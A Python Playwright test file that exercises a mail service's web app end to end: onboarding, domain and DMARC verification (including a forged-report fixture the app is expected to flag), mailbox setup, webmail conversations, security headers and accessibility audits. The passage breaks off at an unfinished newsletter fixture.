"""The web app in a real browser (Debian's chromium, driven by Playwright).

Run by tests/api/web.rs, which starts the service and a harness beside it:
  WEB_BASE            the service (the app is at /)
  WEB_HARNESS         GET /code?to=, POST /dns (records), POST /deliver (raw message)
  WEB_OPERATOR_TOKEN  an operator identity token
  WEB_SHOTS           where the screenshots go (desktop and 360 px of every page)
  WEB_AXE             axe-core's axe.min.js (npm), the accessibility audit run on every page

A person onboards (an operator approves the request), adds and verifies a
domain against the test DNS server, adds mailboxes, reads a delivered message
as a thread, replies with an attachment, archives it and sees the reply in the
thread; a malicious HTML mail runs and fetches nothing; an operator pauses
sending; the pasted key is gone after sign-out. Any console error fails, and
so does any WCAG 2.1 A/AA violation axe-core finds on a page (light at desktop
width, dark at 360 px), labels and contrast among them.
"""

import http.server
import json
import os
import re
import sys
import threading
import urllib.error
import urllib.request

from playwright.sync_api import expect, sync_playwright

BASE = os.environ["WEB_BASE"]
HARNESS = os.environ["WEB_HARNESS"]
OPERATOR_TOKEN = os.environ["WEB_OPERATOR_TOKEN"]
OPERATOR = os.environ["WEB_OPERATOR"]
AGENT_KEY = os.environ["WEB_AGENT_KEY"]
HOOK_URL = os.environ["WEB_HOOK_URL"]
SHOTS = os.environ["WEB_SHOTS"]
CHROMIUM = os.environ.get("WEB_CHROMIUM", "/usr/bin/chromium")
with open(os.environ["WEB_AXE"]) as f:
    AXE = f.read()

PERSON = "ann@newco.example"
DOMAIN = "newco.example"


# A receiver's DMARC aggregate report (RFC 7489) about the person's domain,
# as mailed to the address the DMARC record names: 5 passing, 3 failing.
DMARC_REPORT = (
    "From: noreply-dmarc@receiver.example\r\nTo: dmarc@svc.test\r\n"
    "Subject: Report domain: newco.example Submitter: receiver.example Report-ID: web-42\r\n"
    "Message-ID: <report-web-42@receiver.example>\r\nMIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
    "--b1\r\nContent-Type: text/plain\r\n\r\nA DMARC aggregate report.\r\n"
    "--b1\r\nContent-Type: text/xml\r\n"
    'Content-Disposition: attachment; filename="receiver.example!newco.example!1764028800!1764115199.xml"\r\n\r\n'
    + """<?xml version="1.0" encoding="UTF-8" ?>
<feedback>
  <report_metadata>
    <org_name>receiver.example</org_name>
    <email>noreply-dmarc@receiver.example</email>
    <report_id>web-42</report_id>
    <date_range><begin>1764028800</begin><end>1764115199</end></date_range>
  </report_metadata>
  <policy_published><domain>newco.example</domain><adkim>r</adkim><aspf>r</aspf><p>reject</p><sp>reject</sp><pct>100</pct></policy_published>
  <record>
    <row><source_ip>192.0.2.10</source_ip><count>5</count>
      <policy_evaluated><disposition>none</disposition><dkim>pass</dkim><spf>pass</spf></policy_evaluated></row>
    <identifiers><header_from>newco.example</header_from></identifiers>
    <auth_results><dkim><domain>newco.example</domain><result>pass</result><selector>s1</selector></dkim>
      <spf><domain>newco.example</domain><result>pass</result></spf></auth_results>
  </record>
  <record>
    <row><source_ip>203.0.113.7</source_ip><count>3</count>
      <policy_evaluated><disposition>reject</disposition><dkim>fail</dkim><spf>fail</spf></policy_evaluated></row>
    <identifiers><header_from>newco.example</header_from></identifiers>
    <auth_results><spf><domain>evil.example</domain><result>fail</result></spf></auth_results>
  </record>
</feedback>
""".replace("\n", "\r\n")
    + "\r\n--b1--\r\n"
)


def dkim_signed(raw, domain, selector):
    """`raw` signed by dkimpy for `domain`, its key published on the test DNS
    server (tests/api/support/dkim_sign.py)."""
    import base64
    import subprocess
    import tempfile

    script = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "api", "support", "dkim_sign.py")
    with tempfile.NamedTemporaryFile(suffix=".eml") as f:
        f.write(raw.encode())
        f.flush()
        out = subprocess.run([sys.executable, script, f.name, domain, selector], check=True, capture_output=True)
    answer = json.loads(out.stdout)
    harness("/dns", body=[{"type": "TXT", "host": f"{selector}._domainkey.{domain}", "value": answer["record"]}])
    return base64.b64decode(answer["signed"]).decode()


def harness(path, body=None, raw=None):
    data = raw.encode() if raw is not None else (json.dumps(body).encode() if body is not None else None)
    req = urllib.request.Request(HARNESS + path, data=data, method="POST" if data is not None else "GET")
    if body is not None:
        req.add_header("Content-Type", "application/json")
    with urllib.request.urlopen(req, timeout=30) as res:
        return res.read().decode()


class Watch:
    """Console errors, page errors and dialogs of one page, and every URL it asked for."""

    def __init__(self, page, name):
        self.name, self.errors, self.urls, self.allowed = name, [], [], []
        page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        page.on("pageerror", lambda e: self.errors.append(f"page error: {e}"))
        page.on("dialog", lambda d: self.errors.append(f"dialog: {d.message}"))
        page.on("request", lambda r: self.urls.append(r.url))
        # A request the policy blocked is announced but fails; these got an answer.
        self.answered = []
        self.refused = []
        page.on("response", lambda r: (self.answered.append(r.url), r.status >= 400 and self.refused.append(f"{r.status} {r.url}")))

    def expect_refusal(self, status):
        """The next console line 'Failed to load resource ... <status>' is a refusal the step wants."""
        self.allowed.append(f"status of {status}")

    def check(self):
        unexpected = []
        for e in self.errors:
            hit = next((a for a in self.allowed if "Failed to load resource" in e and a in e), None)
            if hit:
                self.allowed.remove(hit)
            else:
                unexpected.append(e)
        assert not unexpected, f"{self.name}: console errors: {unexpected} (refused: {self.refused})"
        self.errors = []
        self.refused = []


shot_names = []


def shot(page, name):
    """The page at desktop width, then at 360 px, then back; audited at each."""
    os.makedirs(SHOTS, exist_ok=True)
    size = page.viewport_size
    audit(page, name, "desktop, light")
    page.screenshot(path=f"{SHOTS}/{name}-desktop.png", full_page=True)
    words_whole(page, name)
    page.set_viewport_size({"width": 390, "height": 844})
    page.emulate_media(color_scheme="dark")
    page.wait_for_timeout(100)
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width <= 392, f"{name}: {width}px wide at 390"
    header = page.evaluate("document.querySelector('header.top').getBoundingClientRect().height")
    assert header < 60, f"{name}: the header is {header}px high at 390"
    audit(page, name, "390 px, dark")
    page.emulate_media(color_scheme="light")
    page.screenshot(path=f"{SHOTS}/{name}-narrow.png", full_page=True)
    page.set_viewport_size(size)
    shot_names.append(name)


def audit(page, name, how):
    """axe-core's WCAG 2.1 A and AA rules on the page as it is: every control
    labelled, contrast readable, landmarks and names right. Evaluated through
    the DevTools protocol, so the page's own policy (script-src 'self') stays
    as it is."""
    if not page.evaluate("typeof window.axe !== 'undefined'"):
        page.evaluate(AXE)
    found = page.evaluate(
        """() => axe.run(document, {runOnly: {type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']}})
             .then(r => r.violations.map(v => ({id: v.id, help: v.help,
                 nodes: v.nodes.slice(0, 3).map(n => n.target.join(' ') + ': ' + n.failureSummary)})))"""
    )
    assert not found, f"{name} ({how}): accessibility violations: {json.dumps(found, indent=1)}"


def new_page(browser, name):
    context = browser.new_context(viewport={"width": 1280, "height": 800}, permissions=["clipboard-read", "clipboard-write"])
    page = context.new_page()
    return page, Watch(page, name)


def nav(page, name):
    page.locator("#nav").get_by_role("link", name=name, exact=True).click()
    expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()
    not_blank(page, name)


def not_blank(page, name):
    """A page always shows something under its heading once it has loaded:
    its content, or what went wrong and a way to try again."""
    expect(page.locator("#main p.loading")).to_have_count(0, timeout=15000)
    shown = page.evaluate("document.querySelector('#main .page').innerText.trim().split('\\n').length")
    assert shown >= 2, f"{name}: the page is blank under its heading"


def words_whole(page, name):
    """At 1280 px no table heading or one-word cell breaks inside a word
    ("T/y/p/e", "deliver/ed")."""
    broken = page.evaluate("""() => [...document.querySelectorAll('th, td.type, td.mark, .status-pill')]
        .filter(el => el.offsetParent && el.textContent.trim() && !/\\s/.test(el.textContent.trim()))
        .filter(el => { const r = document.createRange(); r.selectNodeContents(el);
                        const tops = new Set([...r.getClientRects()].map(x => Math.round(x.top)));
                        return tops.size > 1; })
        .map(el => el.textContent.trim())""")
    assert not broken, f"{name}: words broken across lines at 1280 px: {broken}"


def sign_in(page, credential):
    page.goto(BASE + "/")
    page.get_by_label("Key or identity token").fill(credential)
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("#nav")).to_be_visible()


def serving(browser):
    page, watch = new_page(browser, "start")
    res = page.goto(BASE + "/")
    headers = res.headers
    csp = headers["content-security-policy"]
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp, csp
    assert headers["x-frame-options"] == "DENY", headers
    assert headers["cache-control"] == "no-cache", headers
    asset = next(u for u in watch.urls if u.endswith("/main.js"))
    assert re.search(r"/app/[0-9a-f]{12}/main\.js$", asset), asset
    with urllib.request.urlopen(asset) as a:
        assert "immutable" in a.headers["cache-control"]
        assert a.headers["x-frame-options"] == "DENY"
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    shot(page, "sign-in")
    page.emulate_media(color_scheme="dark")
    page.screenshot(path=f"{SHOTS}/sign-in-dark.png", full_page=True)
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert background == "rgb(17, 20, 24)", background
    watch.check()
    page.context.close()


def request_refused(page, watch):
    """The API's refusals name its fields (contactEmail); a person reads
    what to fill in."""
    page.goto(BASE + "/")
    form = page.get_by_role("form", name="Request access")
    watch.expect_refusal(400)
    form.get_by_role("button", name="Email me a code").click()
    expect(form.get_by_role("alert")).to_have_text(
        "Fill in your email, your organization's domain, the agent's name and what you will use it for.")
    form.get_by_label("Your email").fill("ann at newco")
    form.get_by_label("Organization domain").fill(DOMAIN)
    form.get_by_label("Agent name").fill("Ann's helper")
    form.get_by_label("What you will use it for").fill("Replies to customers")
    watch.expect_refusal(400)
    form.get_by_role("button", name="Email me a code").click()
    expect(form.get_by_role("alert")).to_have_text("Enter your email address, such as ann@example.com.")
    watch.check()


def request_access(page, watch):
    page.goto(BASE + "/")
    form = page.get_by_role("form", name="Request access")
    form.get_by_label("Your email").fill(PERSON)
    form.get_by_label("Organization domain").fill(DOMAIN)
    form.get_by_label("Agent name").fill("Ann's helper")
    form.get_by_label("What you will use it for").fill("Replies to customers")
    form.get_by_role("button", name="Email me a code").click()
    code_form = page.get_by_role("form", name="Enter the code")
    expect(code_form).to_be_visible()
    # A wrong code: the API's sentence beside the form, and the input kept.
    code_form.get_by_label("Code from the email").fill("00000000")
    watch.expect_refusal(401)
    code_form.get_by_role("button", name="Verify code").click()
    expect(page.get_by_role("alert")).to_be_visible()
    code_form.get_by_label("Code from the email").fill(harness(f"/code?to={PERSON}"))
    code_form.get_by_role("button", name="Verify code").click()


def operator_approves(browser):
    page, watch = new_page(browser, "operator")
    # The local server's operator sign-in: a code mailed to the operator.
    page.goto(BASE + "/")
    signin = page.get_by_role("form", name="Operator sign-in")
    signin.get_by_label("Operator email").fill(OPERATOR)
    signin.get_by_role("button", name="Email me a sign-in code").click()
    code = page.get_by_role("form", name="Operator code")
    code.get_by_label("Sign-in code").fill("12345678")
    watch.expect_refusal(401)
    code.get_by_role("button", name="Sign in as operator").click()
    expect(code.get_by_role("alert")).to_contain_text("not valid")
    code.get_by_label("Sign-in code").fill(harness(f"/sign-in-code?to={OPERATOR}"))
    code.get_by_role("button", name="Sign in as operator").click()
    expect(page.locator("#nav")).to_be_visible()
    nav(page, "Operators")
    expect(page.get_by_role("heading", name="Access requests")).to_be_visible()
    page.get_by_role("form", name="Find access requests").get_by_label("Contact email").fill(PERSON)
    page.get_by_role("button", name="Find requests").click()
    row = page.locator("tr[data-request]").first
    expect(row).to_be_visible()
    row.get_by_role("button", name="Approve").click()
    expect(row.locator(".status")).to_have_text(re.compile("ready|approved"))
    # Ready: nothing left to approve; it may still be denied (its key revoked).
    expect(row.get_by_role("button", name="Approve")).to_have_count(0)
    expect(row.get_by_role("button", name="Deny")).to_be_visible()
    shot(page, "operator")
    watch.check()
    return page, watch


def person_gets_key(page, watch):
    request_access(page, watch)
    warning = page.get_by_text("Store this key now")
    expect(warning).to_be_visible()
    key = page.locator(".key-once code.secret").inner_text()
    assert key and len(key) > 20
    page.get_by_role("button", name="Copy the key").click()
    expect(page.locator(".key-once .copy-status")).to_have_text(re.compile("Copied|Selected"))
    shot(page, "key-once")
    page.get_by_role("button", name="I stored it: continue").click()
    expect(page.locator("#nav")).to_be_visible()
    watch.check()
    return key


def domain(page, watch):
    nav(page, "Domain")
    form = page.get_by_role("form", name="Add domain")
    form.get_by_label("Domain you own").fill(DOMAIN)
    form.get_by_role("button", name="Add domain").click()
    rows = page.locator("tr[data-record]")
    expect(rows.first).to_be_visible()
    records = []
    for i in range(rows.count()):
        r = rows.nth(i)
        purpose = r.get_attribute("data-record")
        if purpose == "dmarc":
            continue
        priority = r.locator(".priority").inner_text().strip()
        records.append({
            "type": r.locator(".type").inner_text().strip(),
            "host": r.locator("code.host").inner_text().strip(),
            "value": r.locator("code.value").inner_text().strip(),
            "priority": int(priority) if priority else None,
        })
    assert {r["type"] for r in records} == {"MX", "TXT"}, records
    # Just added, nothing published yet: waiting for DNS, not failed, and
    # the next step in words, not API calls.
    expect(page.locator("[data-domain-status]")).to_have_text("waiting for DNS")
    expect(page.locator('td.mark[data-purpose="mx"]')).to_have_text("not seen yet")
    expect(page.locator(".next-step")).to_contain_text("Domain page")
    expect(page.locator(".next-step")).not_to_contain_text("POST")
    # Check now moves "last checked" on.
    before = page.locator(".checked-at").inner_text()
    harness("/next-minute", body={})
    page.get_by_role("button", name="Check now").click()
    expect(page.locator(".checked-at")).not_to_have_text(before)
    harness("/dns", body=records)
    page.get_by_role("button", name="Check now").click()
    expect(page.locator('td.mark[data-purpose="dkim"]')).to_have_text("found")
    expect(page.locator("[data-domain-status]")).to_have_text("verified")
    expect(page.locator(".next-step")).not_to_contain_text("verifyDomain")
    expect(page.locator(".dmarc-summary")).to_contain_text("No reports yet")
    # Each record's mark is the service's: a reload shows them again.
    page.reload()
    expect(page.locator('td.mark[data-purpose="dkim"]')).to_have_text("found")
    expect(page.locator('td.mark[data-purpose="mx"]')).to_have_text("found")
    expect(page.locator(".checked-at")).to_contain_text("last checked")
    # A failing DMARC card says so in its place; the records stay; it tries again.
    page.route(re.compile(r".*/dmarcReports.*"), lambda route: route.fulfill(
        status=500, content_type="application/json", body='{"ok":false,"error":"Internal server error"}'))
    watch.expect_refusal(500)
    nav(page, "Mailboxes")
    nav(page, "Domain")
    failed = page.locator(".failure")
    expect(failed.get_by_role("alert")).to_contain_text("Internal server error")
    expect(page.locator('td.mark[data-purpose="dkim"]')).to_have_text("found")
    page.unroute(re.compile(r".*/dmarcReports.*"))
    failed.get_by_role("button", name="Try again").click()
    expect(page.locator(".dmarc-summary")).to_contain_text("No reports yet")
    # A receiver's report, mailed to the service (signed by the receiver,
    # whose DMARC passes), shows on the domain page.
    harness("/dns", body=[{"type": "TXT", "host": "_dmarc.receiver.example", "value": "v=DMARC1; p=none"}])
    harness("/deliver", raw="Delivered-To: dmarc@svc.test\r\n" + dkim_signed(DMARC_REPORT, "receiver.example", "rep"))
    # A forged one in its name (unsigned: DMARC fails) is listed, marked, and
    # left out of the summary (issue 40).
    forged = (DMARC_REPORT.replace("web-42", "web-43").replace("<org_name>receiver.example", "<org_name>Google Inc.")
              .replace("<count>3</count>", "<count>1983969000</count>"))
    harness("/deliver", raw="Delivered-To: dmarc@svc.test\r\n" + forged)
    nav(page, "Mailboxes")
    nav(page, "Domain")
    expect(page.locator(".dmarc-summary")).to_have_text("8 messages: 5 passing, 3 failing.")
    expect(page.locator(".failing-sources")).to_have_text("203.0.113.7: 3 failing")
    expect(page.locator("tr[data-report]").first).to_contain_text("receiver.example")
    expect(page.locator(".dmarc-unproven")).to_have_text(
        "1 more report is left out: its mail does not prove who sent it.")
    expect(page.locator("tr[data-report]", has_text="Google Inc.")).to_contain_text(
        "not proven: mailed from noreply-dmarc@receiver.example")
    shot(page, "domain")
    watch.check()


def mailboxes(page, watch):
    # A 500 from /listDomains: the page says so and offers to try again.
    page.route(re.compile(r".*/listDomains.*"), lambda route: route.fulfill(
        status=500, content_type="application/json", body='{"ok":false,"error":"Internal server error"}'))
    watch.expect_refusal(500)
    nav(page, "Mailboxes")
    expect(page.locator(".failure").get_by_role("alert")).to_contain_text("Internal server error")
    page.unroute(re.compile(r".*/listDomains.*"))
    page.locator(".failure").get_by_role("button", name="Try again").click()
    add = page.get_by_role("form", name="Add mailbox")
    add.get_by_label(re.compile("^Name")).fill("ann")
    add.get_by_role("button", name="Add mailbox").click()
    expect(page.locator('tr[data-mailbox="ann@newco.example"]')).to_contain_text("pending")
    # The mail host applies the export: the mailbox is live.
    harness("/apply", body={})
    nav(page, "Domain")
    nav(page, "Mailboxes")
    expect(page.locator('tr[data-mailbox="ann@newco.example"]')).to_contain_text("live")
    # A forward without a target: the API's sentence, and the form keeps its input.
    add = page.get_by_role("form", name="Add mailbox")
    add.get_by_label(re.compile("^Name")).fill("sales")
    add.get_by_label("Mode").select_option("forward")
    watch.expect_refusal(400)
    add.get_by_role("button", name="Add mailbox").click()
    expect(add.get_by_role("alert")).to_have_text("Add at least one address to forward to.")
    expect(add.get_by_label(re.compile("^Name"))).to_have_value("sales")
    add.get_by_label("Forward to").fill("sales@partner.example")
    add.get_by_role("button", name="Add mailbox").click()
    expect(page.locator('tr[data-mailbox="sales@newco.example"]')).to_contain_text("forward")
    # Change its mode: stored here and forwarded.
    page.locator('tr[data-mailbox="sales@newco.example"]').get_by_role("button", name="Change mode").click()
    change = page.get_by_role("form", name="Change mode")
    change.get_by_label("Mode").select_option("both")
    change.get_by_role("button", name="Save mode").click()
    expect(page.locator('tr[data-mailbox="sales@newco.example"]')).to_contain_text("both")
    # Delete it again; the last mailbox cannot be deleted.
    page.locator('tr[data-mailbox="sales@newco.example"]').get_by_role("button", name="Delete").click()
    page.get_by_role("button", name="Delete sales@newco.example").click()
    expect(page.locator('tr[data-mailbox="sales@newco.example"]')).to_have_count(0)
    page.locator('tr[data-mailbox="ann@newco.example"]').get_by_role("button", name="Delete").click()
    watch.expect_refusal(409)
    page.get_by_role("button", name="Delete ann@newco.example").click()
    expect(page.get_by_role("alert")).to_contain_text("last mailbox")
    page.locator('tr[data-mailbox="ann@newco.example"]').get_by_role("button", name=re.compile("IMAP.SMTP password")).click()
    expect(page.get_by_text("Store this password now")).to_be_visible()
    expect(page.locator(".settings")).to_contain_text("993")
    # Focus goes to the settings just issued, not back to the page.
    expect(page.locator(".panel h2")).to_be_focused()
    shot(page, "mailboxes")
    # A second hosted mailbox: a send must now say which address it is from.
    add = page.get_by_role("form", name="Add mailbox")
    add.get_by_label(re.compile("^Name")).fill("team")
    add.get_by_role("button", name="Add mailbox").click()
    expect(page.locator('tr[data-mailbox="team@newco.example"]')).to_contain_text("hosted")
    watch.check()


RECEIVED = """Delivered-To: ann@newco.example\r
From: Pal <pal@partner.example>\r
To: ann@newco.example\r
Subject: Plans for Friday\r
Message-ID: <plans@partner.example>\r
Date: Tue, 24 Nov 2026 10:00:00 +0000\r
MIME-Version: 1.0\r
Content-Type: text/plain; charset=utf-8\r
\r
Shall we meet at noon?\r
"""


def webmail(page, watch):
    harness("/deliver", raw=RECEIVED)
    nav(page, "Mail")
    thread = page.locator("ul.threads li[data-thread]").first
    expect(thread).to_have_class(re.compile("unread"))
    expect(thread).to_contain_text("Plans for Friday")
    shot(page, "mail")
    # The keyboard: j to the first conversation, Enter to open it; the focus
    # lands on its subject, not the page body; Escape goes back.
    page.evaluate("document.activeElement && document.activeElement.blur()")
    page.keyboard.press("j")
    expect(thread.get_by_role("link")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Plans for Friday")).to_be_focused()
    assert "#/mail/thread/" in page.url, page.url
    page.keyboard.press("Escape")
    expect(page.get_by_role("list", name="Threads in inbox")).to_be_visible()
    # The folder tabs answer the arrow keys.
    page.get_by_role("tab", name="Inbox").focus()
    page.keyboard.press("ArrowRight")
    expect(page.get_by_role("tab", name="Archive")).to_be_focused()
    expect(page.get_by_role("tab", name="Archive")).to_have_attribute("aria-selected", "true")
    page.keyboard.press("ArrowLeft")
    expect(page.get_by_role("tab", name="Inbox")).to_have_attribute("aria-selected", "true")
    # c writes, Escape leaves; "/" goes to search.
    page.evaluate("document.activeElement && document.activeElement.blur()")
    page.keyboard.press("c")
    expect(page.get_by_role("form", name="New message")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("form", name="New message")).to_have_count(0)
    page.keyboard.press("/")
    expect(page.get_by_role("searchbox", name="Search")).to_be_focused()
    thread = page.locator("ul.threads li[data-thread]").first
    thread.get_by_role("link").click()
    expect(page.locator("article.message")).to_contain_text("Shall we meet at noon?")
    # No DMARC policy and no signature: said plainly, the checks beneath.
    trust = page.locator("article.message.inbound .trust")
    expect(trust).to_have_attribute("data-trust", "unverified")
    expect(trust).to_contain_text("could not be verified")
    trust.get_by_text("The checks").click()
    expect(trust).to_contain_text("DKIM: no signature")
    shot(page, "thread")
    page.get_by_role("button", name="Reply", exact=True).click()
    compose = page.get_by_role("form", name="Reply")
    # Filled in by the service's rule, by name: shown, not typed.
    expect(compose.get_by_label("To")).to_have_value("Pal <pal@partner.example>")
    expect(compose.get_by_label("To")).not_to_be_editable()
    # The reply is written below the thread, which stays on the page.
    expect(page.locator("article.message")).to_have_count(1)
    expect(page.locator(".thread .reply-slot form")).to_be_visible()
    compose.get_by_label("Message").fill("Noon works. The agenda is attached.")
    compose.get_by_label("Attachments").set_input_files(
        files=[{"name": "agenda.txt", "mimeType": "text/plain", "buffer": b"1. Lunch\n2. Plans\n"}]
    )
    shot(page, "compose")
    # Four files: refused before sending, and nothing typed is lost.
    four = [{"name": f"f{i}.txt", "mimeType": "text/plain", "buffer": b"x"} for i in range(4)]
    compose.get_by_label("Attachments").set_input_files(files=four)
    compose.get_by_role("button", name="Send").click()
    expect(compose.get_by_role("alert")).to_have_text("At most 3 attachments.")
    expect(compose.get_by_label("Message")).to_have_value("Noon works. The agenda is attached.")
    compose.get_by_label("Attachments").set_input_files(
        files=[{"name": "agenda.txt", "mimeType": "text/plain", "buffer": b"1. Lunch\n2. Plans\n"}]
    )
    compose.get_by_role("button", name="Send").click()
    page.get_by_role("button", name="Send now").click()
    messages = page.locator("article.message")
    expect(messages).to_have_count(2)
    reply = page.locator("article.message.outbound")
    expect(reply).to_contain_text("Noon works")
    expect(reply).to_contain_text("agenda.txt")
    expect(reply.locator(".delivery")).to_contain_text("pal@partner.example")
    # The attachment downloads as sent, and previews inline.
    with page.expect_download() as dl:
        reply.get_by_role("button", name="Download agenda.txt").click()
    path = dl.value.path()
    assert open(path, "rb").read() == b"1. Lunch\n2. Plans\n"
    reply.get_by_role("button", name="Preview").click()
    expect(reply.locator("pre.text-preview")).to_contain_text("Lunch")
    # Archive: gone from the inbox, in the archive with the reply.
    page.get_by_role("button", name="Archive").click()
    expect(page.locator("ul.threads")).to_contain_text("Nothing in inbox")
    page.get_by_role("tab", name="Archive").click()
    archived = page.locator("ul.threads li[data-thread]").first
    expect(archived).to_contain_text("Plans for Friday")
    archived.get_by_role("link").click()
    expect(page.locator("article.message")).to_have_count(2)
    expect(page.locator("article.message.outbound")).to_contain_text("Noon works")
    page.get_by_role("button", name="Mark unread").click()
    page.get_by_role("tab", name="Archive").click()
    expect(page.locator("ul.threads li[data-thread]").first).to_have_class(re.compile("unread"))
    # Search finds it.
    page.get_by_role("searchbox", name="Search").fill("Friday")
    page.get_by_role("button", name="Search", exact=True).click()
    expect(page.locator("ul.threads")).to_contain_text("Plans for Friday")
    # A slow answer never replaces a newer view: the archive's list, held
    # back, arrives after the inbox asked for next is shown.
    held = []
    slow_archive = re.compile(r".*/inbox\?.*folder=archive.*")
    page.route(slow_archive, lambda route: held.append(route))
    page.get_by_role("tab", name="Archive").click()
    page.get_by_role("tab", name="Inbox").click()
    expect(page.get_by_role("list", name="Threads in inbox")).to_be_visible()
    for _ in range(50):
        if held:
            break
        page.wait_for_timeout(100)
    held[0].continue_()
    page.unroute(slow_archive)
    page.wait_for_timeout(500)
    expect(page.get_by_role("list", name="Threads in inbox")).to_be_visible()
    expect(page.get_by_role("list", name="Threads in archive")).to_have_count(0)
    watch.check()


TEAM_LUNCH = """Delivered-To: ann@newco.example\r
From: =?UTF-8?Q?Pal_Sm=C3=AFth?= <pal@partner.example>\r
To: Ann <ann@newco.example>, Lee <lee@partner.example>\r
Cc: Bob <bob@partner.example>\r
Subject: Team lunch\r
Message-ID: <lunch@partner.example>\r
Date: Tue, 24 Nov 2026 11:00:00 +0000\r
MIME-Version: 1.0\r
Content-Type: text/plain; charset=utf-8\r
\r
Lunch on Thursday, everyone?\r
"""


def posted(page, path, send):
    """The JSON body the page POSTs to `path` when `send` runs."""
    with page.expect_request(lambda r: r.method == "POST" and r.url.endswith(path)) as request:
        send()
    return request.value.post_data_json


def conversation(page, watch):
    """Issue 45: Reply, Reply all and Forward under every message, by its id
    (the service fills in whom, the subject, the threading and the quote);
    Cc and Bcc in compose and forward, the 5-recipient limit across them;
    names shown where the mail gave them."""
    harness("/next-minute", body={})
    harness("/deliver", raw=TEAM_LUNCH)
    nav(page, "Mail")
    page.get_by_role("tab", name="Inbox").click()
    row = page.locator("ul.threads li[data-thread]", has_text="Team lunch")
    expect(row).to_contain_text("Pal Smïth")
    row.get_by_role("link").click()
    original = page.locator("article.message.inbound")
    expect(original.locator(".from")).to_have_text("Pal Smïth <pal@partner.example>")
    expect(original.locator(".cc")).to_have_text("Cc: Bob <bob@partner.example>")
    # Reply all, under the message: everyone but the mailbox, To and Cc kept apart.
    original.get_by_role("button", name="Reply all to this message from Pal Smïth").click()
    compose = page.get_by_role("form", name="Reply all")
    expect(compose.get_by_label("To")).to_have_value("Pal Smïth <pal@partner.example>, Lee <lee@partner.example>")
    expect(compose.get_by_label("Cc", exact=True)).to_have_value("Bob <bob@partner.example>")
    expect(compose.get_by_label("Subject")).to_have_value("Re: Team lunch")
    expect(compose.get_by_label("From")).to_have_value("ann@newco.example")
    expect(compose.get_by_label("Quote the original below my reply")).to_be_checked()
    compose.get_by_label("Message").fill("Thursday works for all of us.")
    shot(page, "reply-all")
    body = posted(page, "/reply", lambda: (
        compose.get_by_role("button", name="Send").click(),
        page.get_by_role("button", name="Send now").click()))
    assert body["all"] is True and body["text"] == "Thursday works for all of us.", body
    assert "to" not in body and "subject" not in body and body["id"], body
    sent = page.locator("article.message.outbound")
    expect(sent).to_have_count(1)
    expect(sent.locator(".to")).to_have_text("To: Pal Smïth <pal@partner.example>, Lee <lee@partner.example>")
    expect(sent.locator(".cc")).to_have_text("Cc: Bob <bob@partner.example>")
    expect(sent).to_contain_text("Pal Smïth <pal@partner.example> wrote:")
    expect(sent).to_contain_text("> Lunch on Thursday, everyone?")

    # Forward the original with Cc and Bcc: six people are refused here,
    # before anything is sent; five go, the Bcc kept on the sent row alone.
    page.locator("article.message.inbound").get_by_role("button", name="Forward this message from Pal Smïth").click()
    compose = page.get_by_role("form", name="Forward")
    expect(compose.get_by_label("Subject")).to_have_value("Fwd: Team lunch")
    tries = len([u for u in watch.urls if u.endswith("/forward")])
    compose.get_by_label("To").fill("desk@partner.example, a@partner.example, b@partner.example")
    compose.get_by_label("Cc", exact=True).fill("lee@partner.example")
    compose.get_by_label("Bcc").fill("boss@partner.example, c@partner.example")
    compose.get_by_role("button", name="Send").click()
    expect(compose.get_by_role("alert")).to_have_text("At most 5 recipients in To, Cc and Bcc together.")
    assert len([u for u in watch.urls if u.endswith("/forward")]) == tries
    compose.get_by_label("To").fill("desk@partner.example")
    compose.get_by_label("Bcc").fill("boss@partner.example")
    compose.get_by_label("Note (optional)").fill("FYI, the lunch.")
    body = posted(page, "/forward", lambda: (
        compose.get_by_role("button", name="Send").click(),
        page.get_by_role("button", name="Send now").click()))
    assert body["to"] == ["desk@partner.example"] and body["cc"] == ["lee@partner.example"], body
    assert body["bcc"] == ["boss@partner.example"] and body["id"] and "subject" not in body, body
    forwarded = page.locator("article.message.outbound", has_text="FYI, the lunch.")
    expect(forwarded.locator(".bcc")).to_have_text("Bcc: boss@partner.example")
    expect(forwarded).to_contain_text("Forwarded message")

    # Archived (the inbox is left as it was); a new message takes Cc and Bcc too.
    page.get_by_role("button", name="Archive").click()
    expect(page.get_by_role("list", name="Threads in inbox")).not_to_contain_text("Team lunch")
    page.get_by_role("button", name="Write").click()
    compose = page.get_by_role("form", name="New message")
    compose.get_by_label("To").fill("pal@partner.example")
    compose.get_by_label("Cc", exact=True).fill("Lee <lee@partner.example>")
    compose.get_by_label("Bcc").fill("boss@partner.example")
    compose.get_by_label("Subject").fill("Menu")
    compose.get_by_label("Message").fill("The menu is attached in spirit.")
    body = posted(page, "/sendMail", lambda: (
        compose.get_by_role("button", name="Send").click(),
        page.get_by_role("button", name="Send now").click()))
    assert body["cc"] == ["lee@partner.example"] and body["bcc"] == ["boss@partner.example"], body
    expect(page.get_by_role("form", name="New message")).to_have_count(0)
    # Back at the list, the page says it went.
    expect(page.locator(".mail-pane .notice[role=status]")).to_contain_text("Sent.")
    watch.check()


ONE_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
PDF = "JVBERi0xLjEKMSAwIG9iajw8L1R5cGUvQ2F0YWxvZy9QYWdlcyAyIDAgUj4+ZW5kb2JqIDIgMCBvYmo8PC9UeXBlL1BhZ2VzL0tpZHNbMyAwIFJdL0NvdW50IDE+PmVuZG9iaiAzIDAgb2JqPDwvVHlwZS9QYWdlL1BhcmVudCAyIDAgUi9NZWRpYUJveFswIDAgMjAwIDEwMF0+PmVuZG9iagp0cmFpbGVyPDwvUm9vdCAxIDAgUj4+CiUlRU9G"
NEWSLETTER = (
